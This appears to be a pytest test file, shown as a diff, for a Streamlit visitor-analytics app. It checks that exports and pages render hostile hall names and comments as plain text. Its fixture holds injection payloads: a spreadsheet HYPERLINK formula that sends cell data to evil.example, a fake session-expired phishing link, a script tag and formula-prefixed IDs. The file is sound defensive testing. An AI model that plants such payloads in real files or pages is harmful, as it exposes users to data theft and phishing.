@@ -1,0 +1,195 @@
+"""Text from data or a URL is only ever text (issue 22): a hall, and visits, whose every
+text field holds Markdown, HTML, a link and a spreadsheet formula. Every export of it
+opens as plain text (no cell a formula), and the pages show it as text (no link, no
+bold, no tag that Plotly would render)."""
+
+from __future__ import annotations
+
+import io
+import re
+import shutil
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+import streamlit as st
+from streamlit.testing.v1 import AppTest
+
+from conftest import sign_in_apptest
+from peakend import data_admin, explore_export, regional, safe_text
+from peakend.db import Database
+from peakend.filters import VisitFilter
+from peakend.i18n import set_language
+from peakend.ingest import load_files, load_rejects
+from peakend.scope import EVERYTHING
+from test_explore_export import NO_DRILL
+from test_regional_league import league
+
+APP = str(Path(__file__).resolve().parent.parent / "app.py")
+HOSTILE = ('=HYPERLINK("http://evil.example/?x="&B2,"x") **bold** <b>tag</b> '
+           "[Session expired - sign in again](https://evil.example/login) <script>alert(1)</script>")
+SHORT = "@SUM(1)<b>[x](https://evil.example)"  # ids and codes: 64 characters at most
+FORMULA = ("=", "+", "-", "@")
+
+
+def _load_hostile(db: Database, folder: Path) -> None:
+    halls = pd.DataFrame([{"hall_id": "H9", "hall_name": HOSTILE, "region": "North", "city": HOSTILE,
+                           "counters": "2", "hall_type": HOSTILE}])
+    halls.to_csv(folder / "halls.csv", index=False)
+    visits = pd.DataFrame([
+        {"visit_id": f"{SHORT}{d}{i}", "hall_id": "H9", "arrived_at": f"2026-03-0{d} 10:0{i}:00", "purpose": "enquiry",
+         "called_at": f"2026-03-0{d} 10:1{i}:00", "left_at": f"2026-03-0{d} 10:2{i}:00", "staff_id": SHORT,
+         "counter_id": SHORT, "segment": SHORT, "exit_score": str(1 + i % 5), "peak_score": "2",
+         "exit_comment": HOSTILE}
+        for i in range(6) for d in (3, 8)
+    ] + [{"visit_id": "+bad", "hall_id": "H9", "arrived_at": "2026-03-08 11:00:00", "purpose": "enquiry",
+          "exit_score": "9", "exit_comment": HOSTILE}])
+    visits.to_csv(folder / "visits.csv", index=False)
+    reports = load_files(db, [folder / "visits.csv"], "tester", halls_path=folder / "halls.csv")
+    assert [r.status for r in reports] == ["loaded", "loaded"], [r.summary() for r in reports]
+    assert reports[1].rows_loaded == 12 and reports[1].rows_rejected == 1
+
+
+@pytest.fixture()
+def hostile_db(fixture_db_file, tmp_path):
+    path = tmp_path / "hostile.duckdb"
+    shutil.copy(fixture_db_file, path)
+    db = Database(path)
+    _load_hostile(db, tmp_path)
+    yield db, path
+    db.close()
+
+
+def _csv_cells(data: bytes) -> list[str]:
+    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    return [*frame.columns, *(v for row in frame.itertuples(index=False) for v in row)]
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+        return True
+    except ValueError:
+        return False
+
+
+def _no_formula_cells(cells: list[str]) -> None:
+    """No text cell a spreadsheet would run (a number such as -3 is a number)."""
+    bad = [c for c in cells if c.startswith(FORMULA) and not _number(c)]
+    assert not bad, bad[:5]
+
+
+def test_every_csv_export_is_plain_text(hostile_db, tmp_path):
+    db, _ = hostile_db
+    # explore: the visits behind a view, and a grouped result
+    path = str(tmp_path / "visits.csv")
+    assert explore_export.write_visits(db, VisitFilter(halls=("H9",)), EVERYTHING, NO_DRILL, "csv", path) == 12
+    cells = _csv_cells(Path(path).read_bytes())
+    _no_formula_cells(cells)
+    assert "'" + HOSTILE in cells and "'" + SHORT in cells  # kept whole, behind the apostrophe
+    table = pd.DataFrame({"hall": [HOSTILE, "-2 stars"], "visits": [12, -3]})
+    explore_export.write_table(table, "csv", str(tmp_path / "result.csv"))
+    cells = _csv_cells((tmp_path / "result.csv").read_bytes())
+    _no_formula_cells(cells)
+    assert "-3" in cells  # a number stays a number
+    # regional: the league table of the hostile hall's week
+    set_language("en")
+    try:
+        frame = regional.export_frame(league(db, min_n=1).reset_index())
+        _no_formula_cells(_csv_cells(regional.to_csv(frame)))
+        # rejects (the file beside the load, the page's download) and the load history
+        rejects = load_rejects(db, int(db.scalar("select max(load_id) from loads")))
+        _no_formula_cells(_csv_cells(data_admin.csv_bytes(data_admin.problems_table(rejects))))
+        written = (tmp_path / "visits.csv.rejects.csv").read_bytes()
+        _no_formula_cells(_csv_cells(written))
+        from peakend.ingest import load_history
+
+        _no_formula_cells(_csv_cells(data_admin.csv_bytes(data_admin.history_table(load_history(db)))))
+    finally:
+        set_language("zh")
+
+
+def _formulas(book_bytes: bytes) -> list[str]:
+    book = openpyxl.load_workbook(io.BytesIO(book_bytes))
+    return [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_every_excel_export_holds_no_formula(hostile_db, tmp_path):
+    db, _ = hostile_db
+    path = tmp_path / "visits.xlsx"
+    explore_export.write_visits(db, VisitFilter(halls=("H9",)), EVERYTHING, NO_DRILL, "xlsx", str(path))
+    assert _formulas(path.read_bytes()) == []
+    explore_export.write_table(pd.DataFrame({"hall": [HOSTILE]}), "xlsx", str(tmp_path / "r.xlsx"))
+    assert _formulas((tmp_path / "r.xlsx").read_bytes()) == []
+    set_language("en")
+    try:
+        table = league(db, min_n=1).reset_index()
+        book = regional.to_excel(regional.export_frame(table), table, "League table")
+    finally:
+        set_language("zh")
+    assert _formulas(book) == []
+    sheet = openpyxl.load_workbook(io.BytesIO(book))["League table"]
+    assert HOSTILE in [c.value for row in sheet.iter_rows() for c in row]  # the name, as text
+
+
+def test_markdown_escape_leaves_no_link_or_tag():
+    shown = safe_text.md(HOSTILE)
+    assert "](" not in shown.replace("\\](", "") and "<b>" not in shown and "**" not in shown
+    assert safe_text.md("bill_payment H1: visits.csv 10:00") == "bill_payment H1: visits.csv 10:00"
+    assert safe_text.plot_markup("<b>x</b> 5.0<br>n = 3") == "&lt;b>x&lt;/b> 5.0<br>n = 3"
+    assert safe_text.csv_cell("=1+2") == "'=1+2" and safe_text.csv_cell(-3) == -3
+
+
+# an unescaped Markdown link, bold, or HTML tag from the hostile text
+ACTIVE = [re.compile(r"(?<!\\)\]\((?!\\)"), re.compile(r"(?<!\\)\*\*bold"), re.compile(r"(?<![\\&])<b>")]
+
+
+def _texts(at: AppTest) -> list[str]:
+    out = []
+    for kind in ("markdown", "caption", "info", "warning", "error", "success", "subheader", "header", "title"):
+        out += [e.value for e in getattr(at, kind)]
+    return out
+
+
+def _figures(at: AppTest) -> list[str]:
+    """Each chart's figure as text (Plotly's JSON writes < as \\u003c: decode it)."""
+    import json
+
+    return [json.dumps(json.loads(e.proto.spec), ensure_ascii=False) for e in at.get("plotly_chart")]
+
+
+@pytest.mark.parametrize(("page", "query"), [
+    ("pages/regional.py", {}),
+    ("pages/hall.py", {"hall": "H9"}),
+    ("pages/explore.py", {"hall": "[Session expired](https://evil.example/login)"}),
+    ("pages/insights.py", {"hall": "H9"}),
+    ("pages/home.py", {}),
+])
+def test_pages_show_the_hostile_hall_as_text(hostile_db, monkeypatch, page, query):
+    _, path = hostile_db
+    monkeypatch.setenv("PEAKEND_DB", str(path))
+    set_language("zh")
+    st.cache_data.clear()
+    st.cache_resource.clear()
+    try:
+        at = AppTest.from_file(APP, default_timeout=90)
+        sign_in_apptest(at, "hq")
+        for name, value in query.items():
+            at.query_params[name] = value
+        at.switch_page(page)
+        at.run()
+        assert not at.exception, [e.value for e in at.exception]
+        texts = _texts(at)
+        for text in texts:
+            for pattern in ACTIVE:
+                assert not pattern.search(text), text
+        for spec in _figures(at):
+            assert "<b>tag" not in spec and "<script" not in spec, spec[:300]
+        if page == "pages/explore.py":
+            # the URL value is echoed as text in the "ignored" warning
+            assert any("Session expired" in w.value for w in at.warning)
+        elif page != "pages/home.py":  # (home lists only the halls that need attention)
+            assert any("Session expired" in s for s in texts + _figures(at))  # the name is shown
+    finally:
+        st.cache_resource.clear()
